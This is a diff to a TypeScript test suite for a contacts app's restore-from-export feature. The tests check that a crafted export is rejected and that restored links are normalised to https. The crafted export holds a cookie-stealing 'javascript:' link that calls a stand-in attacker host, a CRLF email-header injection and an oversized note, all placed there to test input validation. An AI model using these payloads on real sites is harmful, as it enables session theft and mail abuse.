@@ -231,6 +231,46 @@ describe("restore refuses, and writes nothing", () => {
     expect(await countsOf(target.id)).toEqual({ contacts: 0, circles: 0, events: 0, touches: 0, successes: 0 });
   });
 
+  it("a crafted export with a javascript: link, a malformed email and a 1,000,000-character note", async () => {
+    const { user } = await seedRichUser(t.db, NOW);
+    const good = await exportJson(user.id);
+    const crafted = {
+      ...good,
+      settings: { ...good.settings, name: "Crafted", defaultCadenceDays: 7 },
+      contacts: good.contacts.map((contact, index) =>
+        index === 3
+          ? {
+              ...contact,
+              links: [{ url: "javascript:fetch('https://evil.example/'+document.cookie)", label: "Site" }],
+              emails: [{ email: "victim@example.com>\r\nBcc: all@example.com", label: null, isPrimary: true }],
+              notes: "x".repeat(1_000_000),
+            }
+          : contact,
+      ),
+    };
+    const target = await createUser(t.db, { name: "Keep me", defaultCadenceDays: 40 });
+    const result = await restoreAs(target.id)(JSON.stringify(crafted));
+    expect(result.ok).toBe(false);
+    expect(result.ok ? undefined : result.fieldErrors?.file?.[0]).toBe(
+      "This export cannot be restored: contacts[3].notes: Keep the notes under 10000 characters (and 2 more problems).",
+    );
+    expect(await countsOf(target.id)).toEqual({ contacts: 0, circles: 0, events: 0, touches: 0, successes: 0 });
+    const [settings] = await t.db.select({ name: users.name, cadence: users.defaultCadenceDays }).from(users).where(eq(users.id, target.id));
+    expect(settings).toEqual({ name: "Keep me", cadence: 40 });
+  });
+
+  it("stores what it restores as the forms store it: trimmed, links made https", async () => {
+    const { user } = await seedRichUser(t.db, NOW);
+    const good = await exportJson(user.id);
+    const [first, ...rest] = good.contacts;
+    if (!first) throw new Error("no contact seeded");
+    const edited = { ...good, contacts: [{ ...first, name: "  Spaced Out  ", links: [{ url: "ada.example/about", label: " " }] }, ...rest] };
+    const target = await createUser(t.db);
+    expect((await restoreAs(target.id)(JSON.stringify(edited))).ok).toBe(true);
+    const restored = (await exportJson(target.id)).contacts.find((contact) => contact.name === "Spaced Out");
+    expect(restored?.links).toEqual([{ url: "https://ada.example/about", label: null }]);
+  });
+
   it("for a signed-out visitor", async () => {
     const authed = defineAuthedAction({ getUserId: async () => null, getDb: async () => t.db });
     const result = await authed(restoreExportInputSchema, restoreExport)({ file: new File(["{}"], "x.json") });
